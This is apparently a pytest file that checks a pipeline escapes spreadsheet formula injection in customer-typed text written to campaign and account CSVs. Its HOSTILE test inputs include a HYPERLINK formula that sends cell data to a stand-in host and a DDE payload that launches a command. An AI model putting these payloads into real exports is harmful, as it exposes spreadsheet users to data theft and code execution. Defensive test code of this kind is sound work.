"""Every CSV the pipeline writes goes through flows/csv_output.py: customer-typed text that a
spreadsheet would run as a formula (=, +, -, @, tab, CR first) is shown as text, in the mailed
campaign lists and in each campaign's account list; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import duckdb
import pytest
from factories import make_campaign_evidence

from flows.csv_output import csv_cell, csv_text
from flows.detection.outputs import ACCOUNT_COLUMNS, CAMPAIGN_COLUMNS, write_campaign_outputs
from flows.report.campaign_report import write_accounts_csv

DAY = date(2026, 3, 10)
HOSTILE = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
)


def read_csv(path: Path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_start_becomes_text(text: str) -> None:
    assert csv_cell(text) == "'" + text
    # Read back as a spreadsheet would: one row, the text whole behind the apostrophe.
    header, row = csv.reader(io.StringIO(csv_text(["name"], [[text]]), newline=""))
    assert header == ["name"] and row == ["'" + text]


def test_plain_text_and_numbers_are_untouched() -> None:
    assert csv_cell("Acme = Labs") == "Acme = Labs" and csv_cell("a-1") == "a-1"
    assert csv_cell(-5) == "-5" and csv_cell(-0.25) == "-0.25" and csv_cell(7.0) == "7"
    assert csv_cell(None) == "" and csv_cell(True) == "true" and csv_cell(float("nan")) == ""
    assert csv_cell(DAY) == "2026-03-10"


def test_mailed_campaign_csvs_neutralise_customer_text(tmp_path: Path) -> None:
    """campaigns.csv, campaign_accounts.csv and candidates.csv from real marts holding hostile
    text (DW-0 is a campaign, DW-1 a candidate: each gets every hostile organization name)."""
    warehouse = tmp_path / "w.duckdb"
    with duckdb.connect(str(warehouse)) as con:
        con.execute(
            f"create table fct_campaigns ({', '.join(f'{c} varchar' for c in CAMPAIGN_COLUMNS)}, "
            "activity_date date, tier varchar default 'campaign')"
        )
        for i, text in enumerate(HOSTILE):
            values = {c: None for c in CAMPAIGN_COLUMNS}
            values |= {
                "campaign_id": f"DW-{i}",
                "score": str(10 - i),
                "top_signature_template": text,
                "confidence_statement": text,
            }
            con.execute(
                f"insert into fct_campaigns values ({', '.join('?' * (len(CAMPAIGN_COLUMNS) + 2))})",
                [*values.values(), DAY, "candidate" if i == 1 else "campaign"],
            )
        con.execute(
            f"create table fct_campaign_accounts ({', '.join(f'{c} varchar' for c in ACCOUNT_COLUMNS)}, "
            "activity_date date, tier varchar)"
        )
        for campaign, tier in (("DW-0", "campaign"), ("DW-1", "candidate")):
            for i, text in enumerate(HOSTILE):
                values = {c: None for c in ACCOUNT_COLUMNS} | {
                    "campaign_id": campaign,
                    "account_id": f"acct-{campaign}-{i}",
                    "organization_id": text,
                    "score": -1.5 * i,
                }
                con.execute(
                    "insert into fct_campaign_accounts values "
                    f"({', '.join('?' * (len(ACCOUNT_COLUMNS) + 2))})",
                    [*values.values(), DAY, tier],
                )

    out = write_campaign_outputs(warehouse, DAY, tmp_path / "reports")
    campaigns = read_csv(out.campaigns_csv)
    published = [t for i, t in enumerate(HOSTILE) if i != 1]
    assert sorted(r["top_signature_template"] for r in campaigns) == sorted("'" + t for t in published)
    assert all(r["confidence_statement"] == r["top_signature_template"] for r in campaigns)
    accounts = read_csv(out.campaign_accounts_csv)
    assert sorted(r["organization_id"] for r in accounts) == sorted("'" + t for t in HOSTILE)
    candidates = read_csv(out.candidates_csv)
    assert {r["campaign_id"] for r in candidates} == {"DW-1"}
    assert sorted(r["organization_id"] for r in candidates) == sorted("'" + t for t in HOSTILE)
    assert not any(
        cell.startswith(("=", "+", "-", "@", "\t", "\r"))
        for row in campaigns + accounts + candidates
        for cell in row.values()
        if not cell.lstrip("-").replace(".", "").isdigit()
    )


def test_campaign_account_list_neutralises_organization_names(tmp_path: Path) -> None:
    """`<campaign_id>-accounts.csv`: organization names typed at sign-up stay text."""
    evidence = make_campaign_evidence()
    warehouse = tmp_path / "w.duckdb"
    with duckdb.connect(str(warehouse)) as con:
        con.execute(
            "create table fct_campaign_accounts as select * from (values "
            + ", ".join(
                f"(date '{evidence.run_date}', '{evidence.campaign_id}', 'acct-{i}', {5 + i}::double)"
                for i in range(len(HOSTILE))
            )
            + ") t(activity_date, campaign_id, account_id, score)"
        )
        con.execute(
            "create table fct_campaign_members as select activity_date, campaign_id, account_id, "
            "true as is_listed, activity_date as period_start from fct_campaign_accounts"
        )
        con.execute(
            "create table fct_account_daily as select account_id, "
            f"date '{evidence.run_date}' as activity_date, 10 as requests, 100 as total_tokens "
            "from fct_campaign_accounts"
        )
        con.execute(
            "create table dim_accounts as select account_id, 'org-' || account_id as organization_id, "
            "'standard' as signup_pathway, 'email' as verification, "
            "timestamptz '2026-01-01 00:00:00+00' as created_at from fct_campaign_accounts"
        )
        con.execute("create table dim_organizations (organization_id varchar, organization_name varchar)")
        con.executemany(
            "insert into dim_organizations values (?, ?)",
            [(f"org-acct-{i}", text) for i, text in enumerate(HOSTILE)],
        )

    path = tmp_path / f"{evidence.campaign_id}-accounts.csv"
    assert write_accounts_csv(warehouse, evidence, path) == len(HOSTILE)
    rows = read_csv(path)
    assert sorted(r["organization_name"] for r in rows) == sorted("'" + t for t in HOSTILE)
    assert {r["score"] for r in rows} == {"5", "6", "7", "8", "9", "10"}
